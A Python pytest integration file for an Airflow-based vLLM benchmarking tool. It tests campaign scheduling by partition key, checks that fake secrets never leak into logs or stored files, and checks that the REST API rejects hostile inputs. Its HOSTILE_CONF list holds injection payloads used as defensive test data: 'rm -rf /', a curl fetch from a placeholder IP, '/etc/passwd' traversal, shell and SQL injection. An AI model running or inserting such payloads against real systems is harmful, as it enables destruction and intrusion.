"""Version campaigns through a real Airflow: scheduler, dag processor and API server started here on
SQLite and 127.0.0.1, the LocalExecutor, and vLLM CPU in local mode on the tiny model.

A REST request with a partition key and an asset event with a partition key each produce a campaign
run for that version that measures it; a repeated event for the same version produces a run that
measures nothing (the lake already holds it), and the version backfill does not even request it.

The same deployment checks two security points: every process runs with known fake secrets in its
environment (HF token, AWS keys) and none of them may appear in any file the campaigns leave (task logs,
the metadata DB with its XComs, the catalog, the lake, the work directories); and the REST API refuses
hostile trigger inputs before any run exists.
"""

from __future__ import annotations

import contextlib
import json
import os
import signal
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import httpx
import pytest
from accelbench.lake.store import Lake

from tests.support.paths import DAGS
from tests.support.servers import free_port

pytestmark = [pytest.mark.airflow, pytest.mark.vllm]
CAMPAIGN = "accelbench_cpu_version_campaign"
# Known fake secrets in every Airflow process's environment: not one byte of them may land anywhere.
FAKE_SECRETS = {
    "HF_TOKEN": "hf_FAKEtokenQx7Rv2mZp9LkW4sNd8TjYb3",
    "HUGGING_FACE_HUB_TOKEN": "hf_FAKEhubTokenK2cV8nB5xM1qW7eR4tY",
    "AWS_ACCESS_KEY_ID": "AKIAFAKEKEY7Q2W3E4R5",
    "AWS_SECRET_ACCESS_KEY": "FAKEsecretKey/9xT2vB7nM4kL1pQ8wE5rT3yU6iO0aS",
    "AWS_SESSION_TOKEN": "FAKEsessionTokenZ8x7C6v5B4n3M2q1W0e9R8t7Y6u5I4o3P2",
}
RELEASES_ASSET = "accelbench.runtime.vllm_cpu_releases"


@dataclass
class Airflow:
    url: str
    home: Path
    accelbench_home: Path
    logs: Path

    def api(self, method: str, path: str, **kw: Any) -> Any:
        response = httpx.request(method, f"{self.url}/api/v2{path}", timeout=30, **kw)
        assert response.status_code < 300, (method, path, response.status_code, response.text)
        return response.json()

    def runs(self, dag_id: str) -> list[dict[str, Any]]:
        return self.api("GET", f"/dags/{dag_id}/dagRuns", params={"order_by": "run_after"})["dag_runs"]

    def wait(self, what: str, ready: Callable[[], Any], timeout: float = 600) -> Any:
        deadline = time.monotonic() + timeout
        while time.monotonic() < deadline:
            value = ready()
            if value:
                return value
            time.sleep(2)
        tails = {p.name: p.read_text()[-3000:] for p in self.logs.glob("*.log")}
        raise AssertionError(f"timed out waiting for {what}; process logs:\n{json.dumps(tails, indent=1)}")

    def finished(self, dag_id: str, count: int) -> list[dict[str, Any]]:
        """Wait until `dag_id` has `count` runs, all finished; returns them, oldest first."""

        def done() -> list[dict[str, Any]] | None:
            runs = self.runs(dag_id)
            return (
                runs
                if len(runs) >= count and all(r["state"] in ("success", "failed") for r in runs)
                else None
            )

        return self.wait(f"{count} finished runs of {dag_id}", done)

    def states(self, dag_id: str, run_id: str) -> dict[str, str]:
        tis = self.api("GET", f"/dags/{dag_id}/dagRuns/{run_id}/taskInstances")["task_instances"]
        return {ti["task_id"]: ti["state"] for ti in tis}


@pytest.fixture(scope="module")
def airflow(
    tiny_model: Path, vllm_python: Path, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Airflow]:
    home = tmp_path_factory.mktemp("scheduling")
    logs = home / "process-logs"
    logs.mkdir()
    port = free_port()
    accelbench_home = home / "accelbench"
    env = {k: v for k, v in os.environ.items() if not k.startswith(("AIRFLOW__", "ACCELBENCH_"))} | {
        "AIRFLOW_HOME": str(home / "airflow"),
        "AIRFLOW__DATABASE__SQL_ALCHEMY_CONN": f"sqlite:///{home / 'airflow' / 'airflow.db'}",
        "AIRFLOW__CORE__EXECUTOR": "LocalExecutor",
        "AIRFLOW__CORE__PARALLELISM": "2",
        "AIRFLOW__CORE__DAGS_FOLDER": str(DAGS),
        "AIRFLOW__CORE__LOAD_EXAMPLES": "False",
        "AIRFLOW__CORE__DAGS_ARE_PAUSED_AT_CREATION": "True",  # only the DAGs under test are unpaused
        "AIRFLOW__CORE__SIMPLE_AUTH_MANAGER_ALL_ADMINS": "True",
        "AIRFLOW__CORE__EXECUTION_API_SERVER_URL": f"http://127.0.0.1:{port}/execution/",
        "AIRFLOW__API__BASE_URL": f"http://127.0.0.1:{port}",
        "AIRFLOW__API__PORT": str(port),
        "AIRFLOW__API_AUTH__JWT_SECRET": "s" * 64,
        "AIRFLOW__DAG_PROCESSOR__REFRESH_INTERVAL": "5",
        "AIRFLOW__DAG_PROCESSOR__MIN_FILE_PROCESS_INTERVAL": "5",
        "AIRFLOW__SCHEDULER__SCHEDULER_HEARTBEAT_SEC": "2",
        **FAKE_SECRETS,
        "ACCELBENCH_HOME": str(accelbench_home),
        "ACCELBENCH_OFFLINE": "1",
        "ACCELBENCH_REGISTRY_URL": "http://127.0.0.1:9",  # never the real registry
        "ACCELBENCH_EXECUTION_MODE": "local",
        "ACCELBENCH_VLLM_PYTHON": str(vllm_python),
        "ACCELBENCH_VERSION_MATRIX": json.dumps(
            {
                "instance_types": ["m8g.xlarge"],
                "model": str(tiny_model),
                "concurrency": [1],
                "repeats": 1,
                "prompts_per_level": 4,
                "input_len": 32,
                "output_len": 8,
                "extra_engine_args": ["--enforce-eager"],
            }
        ),
    }
    airflow_bin = [sys.executable, "-m", "airflow"]
    subprocess.run([*airflow_bin, "db", "migrate"], env=env, check=True, capture_output=True)
    procs = []
    for name, args in (
        ("api-server", ["api-server", "--host", "127.0.0.1", "--port", str(port), "-w", "1"]),
        ("scheduler", ["scheduler", "--skip-serve-logs"]),
        ("dag-processor", ["dag-processor"]),
    ):
        out = (logs / f"{name}.log").open("w")
        procs.append(
            (
                subprocess.Popen(
                    [*airflow_bin, *args],
                    env=env,
                    stdout=out,
                    stderr=subprocess.STDOUT,
                    start_new_session=True,
                ),
                out,
            )
        )
    af = Airflow(f"http://127.0.0.1:{port}", home / "airflow", accelbench_home, logs)
    try:

        def healthy() -> bool:
            try:
                return httpx.get(f"{af.url}/api/v2/monitor/health", timeout=2).status_code == 200
            except httpx.HTTPError:
                return False

        af.wait("the API server", healthy, timeout=180)
        # The catalog first (seeded by its own DAG, through the scheduler like everything else).
        af.wait("the DAGs to be parsed", lambda: len(af.api("GET", "/dags")["dags"]) >= 9, timeout=240)
        for dag_id in ("accelbench_instance_catalog", CAMPAIGN, "accelbench_cpu_version_backfill"):
            af.api("PATCH", f"/dags/{dag_id}", json={"is_paused": False})
        # Unpaused, the weekly DAG (no catch-up) runs its latest interval at once: that run seeds it.
        for run in af.finished("accelbench_instance_catalog", 1):
            assert run["state"] == "success", af.states("accelbench_instance_catalog", run["dag_run_id"])
        yield af
    finally:
        for proc, _ in procs:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(proc.pid, signal.SIGTERM)
        for proc, out in procs:
            try:  # nothing here tests a graceful stop: a process still there after 10 s is killed
                proc.wait(timeout=10)
            except subprocess.TimeoutExpired:
                os.killpg(proc.pid, signal.SIGKILL)
            out.close()


def _server_starts(accelbench_home: Path) -> int:
    return sum(
        len(p.read_text().splitlines()) for p in (accelbench_home / "work").glob("*/server-starts.jsonl")
    )


def test_partition_keys_from_rest_and_asset_events_run_one_campaign_per_version(airflow: Airflow) -> None:
    from accelbench.local.server import local_vllm_version

    version = local_vllm_version()  # local mode serves its own vLLM: that is the version to request
    lake = Lake(str(airflow.accelbench_home / "lake"))

    # 1. REST: trigger the version campaign with a partition key.
    airflow.api("POST", f"/dags/{CAMPAIGN}/dagRuns", json={"logical_date": None, "partition_key": version})
    (first,) = airflow.finished(CAMPAIGN, 1)
    assert first["state"] == "success", airflow.states(CAMPAIGN, first["dag_run_id"])
    assert first["partition_key"] == version
    runs = lake.read("runs").to_pylist()
    assert [(r["vllm_version"], r["status"], r["dag_run_id"]) for r in runs] == [
        (version, "ok", first["dag_run_id"])
    ]
    assert _server_starts(airflow.accelbench_home) == 1

    # 2. An asset event with the partition key (forced: the lake already holds this version).
    (asset,) = airflow.api("GET", "/assets", params={"name_pattern": RELEASES_ASSET})["assets"]
    airflow.api(
        "POST",
        "/assets/events",
        json={"asset_id": asset["id"], "partition_key": version, "extra": {"force": True}},
    )
    second = airflow.finished(CAMPAIGN, 2)[-1]
    assert (
        second["state"] == "success"
        and second["partition_key"] == version
        and second["run_type"] == "asset_triggered"
    )
    assert airflow.states(CAMPAIGN, second["dag_run_id"])["benchmark"] == "success"
    assert _server_starts(airflow.accelbench_home) == 2

    # 3. The same version again without force: a run, but nothing measured twice.
    airflow.api("POST", "/assets/events", json={"asset_id": asset["id"], "partition_key": version})
    third = airflow.finished(CAMPAIGN, 3)[-1]
    states = airflow.states(CAMPAIGN, third["dag_run_id"])
    assert third["state"] == "success" and states["plan"] == "skipped" and states["benchmark"] == "skipped", (
        states
    )
    assert _server_starts(airflow.accelbench_home) == 2

    # 4. The version backfill does not even request it.
    airflow.api(
        "POST",
        "/dags/accelbench_cpu_version_backfill/dagRuns",
        json={"logical_date": None, "conf": {"versions": [version]}},
    )
    (backfill,) = airflow.finished("accelbench_cpu_version_backfill", 1)
    assert airflow.states("accelbench_cpu_version_backfill", backfill["dag_run_id"]) == {
        "request_campaigns": "skipped"
    }
    time.sleep(5)  # give the scheduler (a heartbeat every 2 s) a chance to (wrongly) create a run
    assert len(airflow.runs(CAMPAIGN)) == 3 and _server_starts(airflow.accelbench_home) == 2


HOSTILE_CONF = [
    ("model", "org/model; rm -rf /"),
    ("model", "$(curl http://198.51.100.7/x)"),
    ("model", "../../etc/passwd"),
    ("model", "org/model\n--trust-remote-code"),
    ("extra_engine_args", ["--enforce-eager; id"]),
    ("extra_engine_args", ["--served-model-name=x`id`"]),
    ("extra_engine_args", ["--enforce-eager --trust-remote-code"]),
    ("extra_engine_args", ["--chat-template={{ x }}"]),
    ("version", "0.32.0 && id"),
    ("instance_types", ["m8g.xlarge'; DROP TABLE instance_types;--"]),
    ("concurrency", ["1; id"]),
    ("execution_mode", "kubernetes\nprivileged: true"),
]


def test_rest_refuses_hostile_trigger_inputs_before_a_run_exists(airflow: Airflow) -> None:
    """What the trigger form posts is validated by the same Param schemas: 400 naming the param."""
    dag_id = "accelbench_campaign"
    before = len(airflow.runs(dag_id))
    for field, value in HOSTILE_CONF:
        response = httpx.post(
            f"{airflow.url}/api/v2/dags/{dag_id}/dagRuns",
            json={"logical_date": None, "conf": {field: value}},
            timeout=30,
        )
        assert response.status_code == 400, (field, value, response.status_code, response.text)
        assert field in response.text, (field, response.text)
    assert len(airflow.runs(dag_id)) == before


def test_no_secret_reaches_logs_xcom_the_catalog_or_the_lake(airflow: Airflow) -> None:
    """Runs last in this module: after the campaigns above, every file they left is searched."""
    assert airflow.runs(CAMPAIGN), "a campaign ran with the fake secrets in its environment"
    roots = (airflow.home, airflow.accelbench_home, airflow.logs)
    files = [p for root in roots for p in root.rglob("*") if p.is_file()]
    task_logs = [p for p in files if "dag_id=" + CAMPAIGN in str(p) and "task_id=benchmark" in str(p)]
    assert task_logs and any("vLLM server healthy" in p.read_text(errors="replace") for p in task_logs)
    assert any(p.name == "airflow.db" for p in files) and any(p.suffix == ".parquet" for p in files)
    assert any(p.name == "server.log" for p in files) and any(p.name == "envelope.json" for p in files)
    leaks = [
        (name, str(path))
        for path in files
        for name, value in FAKE_SECRETS.items()
        if value.encode() in path.read_bytes()
    ]
    assert leaks == [], leaks
